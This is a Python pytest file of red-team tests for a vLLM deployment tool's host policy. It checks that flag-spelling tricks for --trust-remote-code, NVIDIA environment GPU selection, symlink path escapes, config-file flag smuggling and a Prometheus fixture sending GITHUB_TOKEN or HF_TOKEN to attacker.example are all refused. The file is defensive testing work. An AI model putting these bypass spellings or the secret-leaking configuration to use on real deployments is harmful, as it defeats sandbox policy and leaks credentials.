"""Red-team cases for the host policy and the spec's own guards: spellings of a server flag that vLLM accepts
(underscores, argparse abbreviations) and GPU selection through the NVIDIA runtime's environment."""

from __future__ import annotations

import pytest

from tests.unit.conftest import MINIMAL, load, problems
from tests.unit.test_policy import POLICY, violations

SPEC = MINIMAL + "router: {image: 'nginx:1.27'}\n"


def with_args(*args: str) -> str:
    return SPEC.replace("  image: vllm", f"  args: [{', '.join(args)}]\n  image: vllm")


@pytest.mark.parametrize(
    "arg",
    ["--trust_remote_code", "--trust_remote_code=true", "--trust-remote", "--trust-remote-co=1", "--trust_remote"],
)
def test_every_spelling_vllm_accepts_of_a_denied_flag_is_denied(arg: str) -> None:
    # vLLM's parser turns '_' into '-' in flag names, and argparse takes a unique prefix of a long flag.
    found = violations(with_args("--enforce-eager", arg))
    assert len(found) == 1 and "runtime.args[1]: the server argument" in found[0], found


def test_flags_that_only_share_a_start_with_a_denied_one_are_allowed() -> None:
    assert violations(with_args("--enforce-eager", "--tensor-parallel-size=2", "--max-num-seqs", '"8"')) == []


@pytest.mark.parametrize(
    "arg", ["--gpu_memory_utilization=1.0", "--gpu-memory-util=1.0", "--served_model_name=x", "--max_model_len=9"]
)
def test_a_generated_flag_cannot_come_back_in_another_spelling(arg: str) -> None:
    # Otherwise runtime.args overrides gpu_memory_utilization after the policy checked it (the last flag wins).
    found = "\n".join(problems(with_args(arg)))
    assert "runtime.args[0]:" in found and "is generated from" in found, found


@pytest.mark.parametrize("name", ["NVIDIA_VISIBLE_DEVICES", "NVIDIA_DRIVER_CAPABILITIES", "NVIDIA_MIG_CONFIG_DEVICES"])
def test_gpu_selection_through_the_environment_is_refused_when_the_policy_limits_gpus(name: str) -> None:
    text = SPEC.replace("  image: vllm", f"  env: {{{name}: all}}\n  image: vllm")
    found = violations(text)
    assert len(found) == 1 and f"runtime.env.{name}:" in found[0], found
    load(text)  # the spec itself is valid; only a host that limits GPUs refuses it
    assert violations(text, POLICY.replace("gpus: [0, 1, 2, 3]\n", "")) == []


def test_harmless_nvidia_variables_stay_allowed() -> None:
    env = "{NVIDIA_DISABLE_REQUIRE: '1', CUDA_VISIBLE_DEVICES: '0'}"
    text = SPEC.replace("  image: vllm", f"  env: {env}\n  image: vllm")
    assert violations(text) == []


def test_a_colour_without_gpus_gets_none_even_from_the_nvidia_runtime() -> None:
    # CUDA base images set NVIDIA_VISIBLE_DEVICES=all; on a host whose default runtime is nvidia, a container
    # with no device request would still see every GPU. `void` makes the runtime behave as runc.
    from tests.unit.test_container import container, spec

    assert container(spec("gpus:\n  blue: []\n  green: [1]\n")).env == {"NVIDIA_VISIBLE_DEVICES": "void"}
    assert container(spec("gpus:\n  blue: []\n  green: [1]\n"), "green").env == {}


@pytest.mark.parametrize("source", ["/srv/hf-cache/./escape", "/srv/hf-cache/escape/.", "/./srv/hf-cache/escape"])
def test_a_dot_segment_cannot_hide_a_symlink_from_the_check(source: str) -> None:
    # The container can write a symlink into an rw-allowed directory; the host resolves the source as written.
    text = SPEC.replace("  image: vllm", f'  volumes: ["{source}:/host"]\n  image: vllm')
    found = violations(text, resolved={source: "/"})
    assert len(found) == 1 and "runtime.volumes[0]" in found[0], found


PROMETHEUS = "analysis:\n  prometheus:\n    url: https://attacker.example\n    bearer_token_env: {name}\n" + (
    "    queries: [{{name: q, query: up, max: 1}}]\n"
)


@pytest.mark.parametrize("name", ["BGDEPLOY_GITHUB_TOKEN", "GITHUB_TOKEN", "HF_TOKEN", "VLLM_API_KEY"])
def test_the_prometheus_bearer_token_cannot_be_a_secret_meant_for_something_else(name: str) -> None:
    # A PR's spec picks both the URL and the variable: the runner would send that secret to the PR's server.
    runtime = "  secret_env: [VLLM_API_KEY]\n  api_key_env: VLLM_API_KEY\n"
    text = SPEC.replace("  image: vllm", runtime + "  image: vllm") + PROMETHEUS.format(name=name)
    found = "\n".join(problems(text))
    assert "analysis.prometheus.bearer_token_env:" in found, found
    load(SPEC + PROMETHEUS.format(name="PROMETHEUS_TOKEN"))


def test_the_prometheus_bearer_token_is_masked() -> None:
    from bgdeploy.untrusted import secrets

    secrets.forget_all()
    try:
        from bgdeploy.execute.prometheus_watch import register_token

        register_token("prom-token-value-123")
        assert secrets.mask("got prom-token-value-123") == "got ***"
    finally:
        secrets.forget_all()


@pytest.mark.parametrize("args", [("--config", "/cache/x.yaml"), ("--config=/cache/x.yaml",), ("--conf=x",)])
def test_a_vllm_config_file_cannot_bring_denied_flags_back_by_default(args: tuple[str, ...]) -> None:
    # vLLM reads flags from --config FILE (e.g. trust-remote-code: true from a file a model left in a shared cache).
    found = violations(with_args(*args))
    assert len(found) == 1 and "runtime.args[0]" in found[0], found
    assert violations(with_args("--config-format", "auto")) == []


def test_a_secret_too_short_to_be_masked_is_refused_without_showing_it() -> None:
    from bgdeploy.errors import UsageError
    from bgdeploy.plan.container import secret_values

    spec = load(SPEC.replace("  image: vllm", "  secret_env: [VLLM_API_KEY]\n  image: vllm")).spec
    with pytest.raises(UsageError, match="VLLM_API_KEY is 3 characters") as info:
        secret_values(spec, {"VLLM_API_KEY": "k9z"})
    assert "k9z" not in str(info.value)
    assert secret_values(spec, {"VLLM_API_KEY": ""}) == {"VLLM_API_KEY": ""}  # unset in CI: no secret at all
    assert secret_values(spec, {"VLLM_API_KEY": "k9z8"}) == {"VLLM_API_KEY": "k9z8"}


def test_a_bare_model_name_in_args_cannot_replace_the_allowed_model() -> None:
    # `vllm serve` reads a bare word as the model to serve and lets it win over --model.
    limited = POLICY + 'models: ["meta-llama/*"]\n'
    found = violations(with_args("--enforce-eager", "attacker/model"), limited)
    assert len(found) == 1 and "runtime.args[1]: the bare argument 'attacker/model' is refused" in found[0], found
    assert violations(with_args("--enforce-eager", "--tokenizer=meta-llama/tok"), limited) == []
